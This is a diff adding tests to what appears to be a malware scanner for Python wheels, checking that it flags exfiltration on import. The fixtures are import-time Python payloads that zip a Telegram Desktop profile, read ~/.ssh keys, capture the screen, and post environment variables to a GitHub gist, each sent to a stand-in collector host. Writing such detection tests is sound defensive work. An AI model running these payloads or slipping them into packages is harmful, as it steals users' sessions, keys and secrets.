@@ -218,3 +218,65 @@ test('clients for buckets, SFTP, procedures and logs that are handed their data 
 
   expect((await inspect('exfiltration', file)).filter((finding) => finding.score > 1)).toEqual([]);
 });
+
+test('an archive of a messenger profile carries its label to the upload', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import os, shutil, requests',
+      "profile = os.path.join(os.getenv('APPDATA'), 'Telegram Desktop', 'tdata')",
+      "shutil.make_archive(os.path.join(os.getenv('TEMP'), 'a'), 'zip', profile)",
+      "requests.post('https://collector.metrics.invalid/a', files={'f': open(os.path.join(os.getenv('TEMP'), 'a.zip'), 'rb')})",
+    ),
+  });
+
+  expect(await inspect('exfiltration', file)).toMatchObject([{ class: 'malware', score: 10, line: 4 }]);
+});
+
+test('files that a pattern finds in a store of keys are keys', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import glob, os, urllib.request',
+      "for name in glob.glob(os.path.expanduser('~/.ssh/*')):",
+      "    urllib.request.urlopen('https://collector.metrics.invalid/k', open(name, 'rb').read())",
+    ),
+  });
+
+  expect(await inspect('exfiltration', file)).toMatchObject([{ class: 'malware', score: 10, line: 3 }]);
+});
+
+test('a picture of the screen that is saved to memory first still leaves', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import io, requests',
+      'from PIL import ImageGrab',
+      'kept = io.BytesIO()',
+      "ImageGrab.grab().save(kept, format='PNG')",
+      "requests.post('https://collector.metrics.invalid/s', files={'f': kept.getvalue()})",
+    ),
+  });
+
+  expect(await inspect('exfiltration', file)).toMatchObject([{ class: 'malware', score: 10, line: 5 }]);
+});
+
+test('the environment that is filed with a code host under a key in the source is with the owner of the key', async () => {
+  const request = (key: string): string =>
+    `requests.post('https://api.github.com/gists', headers={'Authorization': ${key}}, json={'t': dict(os.environ)})`;
+  const inline = wheel({
+    'pkg/__init__.py': python('import os, requests', request("'token ghp_abcdefghijklmnopqrstuvwxyz'")),
+  });
+
+  expect(await inspect('exfiltration', inline)).toMatchObject([{ class: 'malware', score: 10 }]);
+});
+
+test('a report that an import draws up from files of its own stays below quarantine', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import os, requests',
+      "text = open(os.path.join(os.path.dirname(__file__), 'terms.txt')).read()",
+      "requests.post('https://api.vendor.invalid/terms', data=text)",
+    ),
+    'pkg/terms.txt': 'terms',
+  });
+
+  expect(await inspect('exfiltration', file)).toEqual([]);
+});
